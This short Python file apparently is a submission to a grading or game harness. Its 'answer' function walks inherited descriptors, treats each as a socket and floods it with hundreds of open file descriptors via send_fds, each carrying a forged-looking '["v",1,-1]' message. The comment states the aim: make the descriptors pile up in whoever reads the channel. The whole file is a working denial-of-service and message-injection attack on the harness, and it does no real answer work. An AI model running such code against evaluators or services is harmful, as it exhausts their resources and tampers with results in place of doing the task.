# Sends descriptors, hundreds of them, over the channel, so that they pile up with whoever reads it.
import os, socket

def answer(n):
    kept = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    for fd in range(3, 32):
        try:
            end = socket.socket(fileno=os.dup(fd))
            for _ in range(20):
                socket.send_fds(end, [b'["v",1,-1]\n'], kept)
        except OSError:
            pass
    return -1
